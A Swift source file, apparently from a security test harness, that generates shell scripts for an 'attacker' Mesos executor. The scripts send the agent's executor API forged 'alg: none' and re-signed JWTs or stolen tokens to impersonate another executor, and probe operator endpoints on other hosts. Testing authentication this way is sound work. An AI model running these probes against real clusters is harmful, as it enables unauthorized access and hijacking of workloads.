import Foundation

/// The shell's script of an executor that asks the agent what it likes.
struct AgentScript {
    static let (attacker, other) = ("attacker", "other")
    /// In place of every token, and then for the other executor.
    var stolen: String?
    var operatorPort: UInt16
    var addresses: [IP]

    /// Subscribes, stays, says that its task runs, and that all this is so.
    static let subscriber = #"""
        crlf=$(printf '\r\n_') crlf=${crlf%_} own=$MESOS_EXECUTOR_AUTHENTICATION_TOKEN
        host=${MESOS_AGENT_ENDPOINT%:*} port=${MESOS_AGENT_ENDPOINT##*:}
        head='HTTP/1.1\r\nHost: agent\r\nConnection: close\r\nContent-Type: application/json\r\nAccept: application/json\r\n'
        # ADDRESS PORT QUESTION BODY TOKEN SECONDS
        ask() {
            { printf "%s $head%sContent-Length: %s\r\n\r\n%s" "$3" "${5:+Authorization: Bearer $5$crlf}" ${#4} "$4"; exec sleep $6; } |
                nc "$1" "$2" 2>/dev/null
        }
        # EXECUTOR
        subscription() {
            printf '{"type":"SUBSCRIBE","framework_id":{"value":"%s"},"executor_id":{"value":"%s"},"subscribe":{}}' \
                "$MESOS_FRAMEWORK_ID" $1
        }
        # EXECUTOR TASK MESSAGE
        update() {
            printf '{"type":"UPDATE","framework_id":{"value":"%s"},"executor_id":{"value":"%s"},"update":{"status":{%s}}}' \
                "$MESOS_FRAMEWORK_ID" $1 "$(printf '"task_id":{"value":"%s"},"state":"TASK_RUNNING","source":"SOURCE_EXECUTOR","message":"%s","uuid":"%s"' \
                    $2 "$3" "$(head -c 16 /dev/urandom | base64)")"
        }
        call() { ask "$host" "$port" 'POST /api/v1/executor' "$@"; }
        call "$(subscription $MESOS_EXECUTOR_ID)" "$own" 600 >/tmp/stream &
        until [ -s /tmp/stream ]; do sleep 0.1; done
        call "$(update $MESOS_EXECUTOR_ID $MESOS_EXECUTOR_ID begun)" "$own" 1 >/dev/null
        echo "$MESOS_EXECUTOR_ID subscribed $(head -n 1 /tmp/stream | tr -d '\r')"
        """#

    static let idler = subscriber + "\nsleep 600\n"

    /// Calls that the agent answers in any case; ``own`` is the attacker's own, and taken.
    static let awaited = TokenProbe.all.map(\.id) + [own]
    static let own = "own"

    /// Tries all again and again, each time with `round N NAME ANSWER` for each, and `round N over`.
    var attack: String {
        let claims = Self.base64(#"{"cid":"x","eid":"\#(Self.other)","fid":"x"}"#)
        let tokens = TokenProbe.all.map { probe in
            let executor = probe.isForOther || stolen != nil ? Self.other : Self.attacker
            let update = "update \(executor) \(Self.other) through-\(probe.id)"
            let body = probe.isSubscription ? "subscription \(executor)" : update
            let token =
                switch probe.proof {
                case _ where stolen != nil: stolen ?? ""
                case .own: "$own"
                case .none: ""
                case .forged: Self.base64(#"{"alg":"HS256","typ":"JWT"}"#) + ".\(claims).${own##*.}"
                case .unsigned: Self.base64(#"{"alg":"none","typ":"JWT"}"#) + ".\(claims)."
                }
            return #"call "$(\#(body))" "\#(token)" 10 | head -n 1 >/tmp/answers/\#(probe.id) &"#
        }
        let operators = OperatorProbe.all.map { probe in
            #"ask $place '\#(probe.question)' '\#(probe.json)' '' 10 | head -n 1 >"/tmp/answers/\#(probe.id) $name" &"#
        }
        return Self.subscriber + """

            places="$host:\(operatorPort) $host:$port"
            for address in \(addresses.map(\.description).joined(separator: " ")); do
                [ $address = $host ] && continue
                ip route add $address via $host 2>/dev/null; places="$places $address:\(operatorPort)"
            done
            round=0; mkdir -p /tmp/answers
            while :; do
                round=$((round + 1)); rm -f /tmp/answers/*
                call "$(update \(Self.attacker) \(Self.attacker) honest)" "$own" 10 | head -n 1 >/tmp/answers/\(Self.own) &
                \(tokens.joined(separator: "\n    "))
                for name in $places; do
                    place="${name%:*} ${name#*:}"
                    \(operators.joined(separator: "\n        "))
                done
                tries=0
                for name in \(Self.awaited.joined(separator: " ")); do
                    until [ -s /tmp/answers/$name ] || [ $tries = 100 ]; do sleep 0.1; tries=$((tries + 1)); done
                done
                # Answers to operators would come as fast.
                sleep 1
                for file in /tmp/answers/*; do echo "round $round ${file##*/} $(head -n 1 "$file" | tr -d '\\r')"; done
                echo "round $round over"
            done
            """
    }

    private static func base64(_ text: String) -> String {
        let plain = Data(text.utf8).base64EncodedString()
        return plain.replacing("+", with: "-").replacing("/", with: "_").replacing("=", with: "")
    }
}
